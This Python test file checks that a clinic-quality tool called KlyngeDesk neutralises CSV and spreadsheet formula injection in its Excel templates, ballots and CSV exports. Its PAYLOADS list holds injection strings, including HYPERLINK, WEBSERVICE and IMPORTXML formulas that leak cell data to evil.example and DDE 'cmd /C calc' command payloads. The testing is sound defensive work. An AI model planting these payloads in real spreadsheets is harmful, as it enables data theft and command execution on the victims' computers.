"""Formula injection (OWASP CSV injection): hostile text reaches every sheet KlyngeDesk writes as text."""

from __future__ import annotations

import copy
import csv
import json
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from klyngedesk.core.model import Clinic, Cluster, Period
from klyngedesk.core.packages import import_package
from klyngedesk.core.sheet_cells import is_formula_like, restore_cell, safe_cell, write_csv
from klyngedesk.core.store import Project
from klyngedesk.core.survey import read_ballots, write_ballot_xlsx
from klyngedesk.core.survey.model import Candidate, Survey
from klyngedesk.core.templates import make_template, read_template_meta
from klyngedesk.resources import resource_path

# The shapes OWASP's CSV-injection page and the published payload lists (Kettle 2014, Context IS) use.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A2,"Klik her")',
    '=WEBSERVICE("http://evil.example/?"&B2)',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "   =1+1",
    '"=1+1',
    "\u3000=1+1",
    "\u00a0 '\"@SUM(A1:A9)",
    "\uff1d1+1",
    "\uff0bcmd|' /C calc'!A0",
]
HARMLESS = ["Lægehuset Fjord", "3 - 4 gange", "e-mail", "– ingen –", "−3,5", "K01", "'hej'", "", "1+1"]


def _text_cells(path: Path) -> list:
    wb = load_workbook(path)
    return [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def _assert_inert(path: Path) -> set[str]:
    """No cell of any sheet is a formula or formula-like; returns the texts shown, quote removed."""
    cells = _text_cells(path)
    assert cells
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        assert not is_formula_like(cell.value), (cell.parent.title, cell.coordinate, cell.value)
    return {restore_cell(c.value) for c in cells}


def test_there_are_21_shapes_and_each_is_caught() -> None:
    assert len(set(PAYLOADS)) == 21
    for payload in PAYLOADS:
        assert is_formula_like(payload), repr(payload)
        safe = safe_cell(payload)
        assert safe == "'" + payload and not is_formula_like(safe) and restore_cell(safe) == payload
    for text in HARMLESS:
        assert safe_cell(text) == text and restore_cell(text) == text
    assert safe_cell(-3) == -3 and safe_cell(None) is None


@pytest.fixture
def hostile_project(tmp_path: Path):
    """Clinic names, cluster name, topic title/description, measure and indicator titles: all payloads."""
    project = Project.create(tmp_path / "Fjendtlig.klynge", Cluster(PAYLOADS[7], PAYLOADS[8]))
    for i, payload in enumerate(PAYLOADS):
        project.add_clinic(Clinic(f"K{i:02d}", payload, f"{100000 + i}"))
    project.add_period(Period("2026H1", PAYLOADS[3], date(2026, 1, 1), date(2026, 6, 30)))
    package = json.loads(resource_path("packages", "kol.json").read_text(encoding="utf-8"))
    package = copy.deepcopy(package)
    package["topic"] = {**package["topic"], "title": PAYLOADS[9], "description": PAYLOADS[10]}
    for i, measure in enumerate(package["measures"]):
        measure.update(title=PAYLOADS[11 + i % 5], description=PAYLOADS[16 + i % 5], data_source=PAYLOADS[2])
    for i, indicator in enumerate(package["indicators"]):
        indicator["title"] = PAYLOADS[(i + 4) % 21]
    import_package(project, package)
    yield project
    project.close()


def test_template_for_all_clinics_writes_every_payload_as_text(hostile_project: Project, tmp_path: Path) -> None:
    topic = hostile_project.topics()[0]
    out = make_template(hostile_project, topic.key, "2026H1", tmp_path / "skabelon.xlsx")
    shown = _assert_inert(out)
    assert {c.name for c in hostile_project.clinics()} <= shown  # every clinic name is there, as text
    assert topic.title in shown and PAYLOADS[7] in shown
    meta = read_template_meta(out)
    assert meta is not None and meta["topic"] == topic.key and meta["period"] == "2026H1"


def test_template_for_one_clinic(hostile_project: Project, tmp_path: Path) -> None:
    topic = hostile_project.topics()[0]
    out = make_template(hostile_project, topic.key, "2026H1", tmp_path / "en.xlsx", clinic="K10")
    assert PAYLOADS[10] in _assert_inert(out)
    assert read_template_meta(out)["clinic_key"] == "K10"


def test_ballot_writes_every_payload_as_text_and_reads_back_unchanged(tmp_path: Path) -> None:
    candidates = tuple(Candidate(f"c{i}", p, PAYLOADS[(i + 1) % 21]) for i, p in enumerate(PAYLOADS))
    survey = Survey(PAYLOADS[0], candidates, 3, PAYLOADS[1], PAYLOADS[2])
    blank = write_ballot_xlsx(survey, tmp_path / "seddel.xlsx")
    assert set(PAYLOADS) <= _assert_inert(blank)
    wb = load_workbook(blank)
    ws = wb.worksheets[0]
    ws["D8"].value = 1  # a member ranks the first candidate
    wb.save(tmp_path / "svar.xlsx")
    found, ballots = read_ballots([tmp_path / "svar.xlsx"])
    assert found is not None and found.title == PAYLOADS[0]
    assert [c.title for c in found.candidates] == PAYLOADS and len(ballots) == 1


def test_csv_fields_are_quoted_and_neutralised(tmp_path: Path) -> None:
    rows = [PAYLOADS[i:i + 3] for i in range(0, 21, 3)] + [HARMLESS]
    path = write_csv(tmp_path / "eksport.csv", rows)
    raw = path.read_text(encoding="utf-8-sig")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        back = list(csv.reader(fh, delimiter=";"))
    assert back == [[safe_cell(v) for v in row] for row in rows]
    for row in back:
        for field in row:
            assert not is_formula_like(field)
    for line in raw.split("\r\n"):
        assert not line or line.startswith('"')  # every field quoted: a ; or " in the text cannot open a new cell
